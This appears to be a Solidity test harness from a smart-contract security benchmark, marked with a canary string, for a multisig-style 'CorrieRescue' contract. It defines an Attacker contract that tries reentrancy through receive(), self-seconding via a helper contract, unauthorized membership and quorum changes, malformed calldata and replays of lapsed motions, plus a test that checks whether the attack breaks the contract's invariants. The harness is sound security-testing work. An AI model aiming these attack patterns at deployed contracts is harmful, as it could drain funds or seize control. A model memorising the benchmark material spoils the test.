@@ -1,0 +1,192 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.24;
+
+import "./CorrieRescue.sol";
+
+// assay-canary-5c960f00-948f-47a8-b8ff-2af0a69f39db
+
+interface Vm {
+    function deal(address who, uint256 amount) external;
+    function warp(uint256 time) external;
+    function prank(address who) external;
+}
+
+contract Attacker {
+    CorrieRescue internal team;
+    bytes32 internal winch;
+
+    constructor(CorrieRescue team_, bytes32 winch_) {
+        team = team_;
+        winch = winch_;
+    }
+
+    receive() external payable {
+        _try(abi.encodeCall(team.carryOut, (1)));
+    }
+
+    function _try(bytes memory data) internal returns (bool ok) {
+        (ok, ) = address(team).call(data);
+    }
+
+    function run() external {
+        // straight at the roster
+        _try(abi.encodeCall(team.welcome, (address(this))));
+        _try(abi.encodeCall(team.setQuorum, (0)));
+        _try(abi.encodeCall(team.dismiss, (team.leaders()[0])));
+        // a motion of one's own, with everything that might second it
+        _try(abi.encodeCall(team.move, (address(team), 0, 100_000, abi.encodeCall(team.welcome, (address(this))))));
+        uint256 n = 6;
+        for (uint256 id = 0; id < n; ++id) {
+            _try(abi.encodeCall(team.second, (id)));
+            _try(abi.encodeCall(team.thinkAgain, (id)));
+            _try(abi.encodeCall(team.carryOut, (id)));
+        }
+        Stooge stooge = new Stooge(team);
+        for (uint256 id = 0; id < n; ++id) {
+            stooge.second(id);
+            _try(abi.encodeCall(team.carryOut, (id)));
+            _try(abi.encodeCall(team.carryOut, (id)));
+        }
+        // kit and membership
+        _try(abi.encodeCall(team.enrol, (address(this), true)));
+        _try(abi.encodeCall(team.passOn, (winch, address(this))));
+        _try(abi.encodeCall(team.passOn, (winch, address(0))));
+        _try(abi.encodeCall(team.signOut, (winch)));
+    }
+
+    /// A motion that has lapsed, and ether sent in to be called back.
+    function later() external {
+        for (uint256 id = 0; id < 6; ++id) {
+            _try(abi.encodeCall(team.carryOut, (id)));
+        }
+        _try(abi.encodePacked(bytes4(keccak256("welcome(address)")), uint96(0), address(team)));
+        _try(abi.encodePacked(bytes4(keccak256("carryOut(uint256)")), type(uint256).max));
+    }
+}
+
+contract Stooge {
+    CorrieRescue internal team;
+
+    constructor(CorrieRescue team_) {
+        team = team_;
+    }
+
+    function second(uint256 id) external {
+        (bool ok, ) = address(team).call(abi.encodeCall(team.second, (id)));
+        ok;
+    }
+}
+
+contract Proof {
+    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
+    bytes32 private constant WINCH = "winch";
+    bytes32 private constant ROPE = "rope 60 m";
+
+    CorrieRescue private team;
+    Attacker private reiver;
+    address private constant EILIDH = address(0xE111);
+    address private constant RORY = address(0x4041);
+    address private constant MHAIRI = address(0x3411);
+    address private constant CALUM = address(0xCA1);
+
+    function setUp() public {
+        vm.warp(1_761_000_000);
+        address[] memory first = new address[](3);
+        (first[0], first[1], first[2]) = (EILIDH, RORY, MHAIRI);
+        team = new CorrieRescue(first, 2);
+        reiver = new Attacker(team, WINCH);
+        vm.deal(address(team), 5 ether);
+        vm.prank(RORY);
+        team.enrol(CALUM, true);
+        vm.prank(CALUM);
+        team.signOut(WINCH);
+        // a proposal of one leader that the others do not like
+        vm.prank(MHAIRI);
+        team.move(address(team), 0, 100_000, abi.encodeCall(team.welcome, (address(reiver))));
+        vm.prank(EILIDH);
+        team.move(address(reiver), 1 ether, 0, "");
+    }
+
+    function test_Regular() public {
+        vm.prank(EILIDH);
+        uint256 id = team.move(address(team), 0, 100_000, abi.encodeCall(team.welcome, (CALUM)));
+        (bool ok, ) = address(team).call(abi.encodeCall(team.carryOut, (id)));
+        require(!ok, "one second");
+        vm.prank(RORY);
+        team.second(id);
+        team.carryOut(id);
+        require(team.isLeader(CALUM) && team.leaders().length == 4, "welcomed");
+        (ok, ) = address(team).call(abi.encodeCall(team.carryOut, (id)));
+        require(!ok, "once");
+
+        vm.prank(CALUM);
+        id = team.move(address(0xC0), 2 ether, 0, "");
+        vm.prank(MHAIRI);
+        team.second(id);
+        vm.prank(EILIDH);
+        uint256 out = team.move(address(team), 0, 100_000, abi.encodeCall(team.dismiss, (CALUM)));
+        vm.prank(RORY);
+        team.second(out);
+        team.carryOut(out);
+        require(!team.isLeader(CALUM) && team.secondsOf(id) == 1, "a former leader");
+        (ok, ) = address(team).call(abi.encodeCall(team.carryOut, (id)));
+        require(!ok, "too few again");
+        vm.prank(EILIDH);
+        team.second(id);
+        vm.prank(EILIDH);
+        team.thinkAgain(id);
+        require(team.secondsOf(id) == 1, "thinks again");
+        vm.prank(EILIDH);
+        team.second(id);
+        team.carryOut(id);
+        require(address(0xC0).balance == 2 ether, "paid");
+
+        vm.prank(CALUM);
+        team.passOn(WINCH, address(0));
+        vm.prank(CALUM);
+        team.signOut(ROPE);
+        vm.prank(EILIDH);
+        team.passOn(ROPE, address(0));
+        require(team.holderOf(WINCH) == address(0) && team.holderOf(ROPE) == address(0), "in the store");
+        vm.prank(MHAIRI);
+        id = team.move(address(team), 0, 100_000, abi.encodeCall(team.setQuorum, (3)));
+        vm.prank(RORY);
+        team.second(id);
+        vm.warp(block.timestamp + 21 days + 1);
+        (ok, ) = address(team).call(abi.encodeCall(team.carryOut, (id)));
+        require(!ok && team.quorum() == 2, "lapsed");
+    }
+
+    /// Three leaders, a quorum of two, the winch with Calum and the ether in the till.
+    function inOrder() public view returns (bool) {
+        return
+            team.leaders().length == 3 &&
+            team.isLeader(EILIDH) &&
+            team.isLeader(RORY) &&
+            team.isLeader(MHAIRI) &&
+            !team.isLeader(address(reiver)) &&
+            team.quorum() == 2 &&
+            team.holderOf(WINCH) == CALUM &&
+            address(team).balance >= 5 ether;
+    }
+
+    function exploit() public {
+        reiver.run();
+        vm.warp(block.timestamp + 22 days);
+        reiver.later();
+    }
+
+    function test_Exploit() public {
+        require(inOrder(), "before");
+        exploit();
+        require(!inOrder(), "all is in order");
+    }
+
+    function target() public view returns (address) {
+        return address(team);
+    }
+
+    function attacker() public view returns (address) {
+        return address(reiver);
+    }
+}
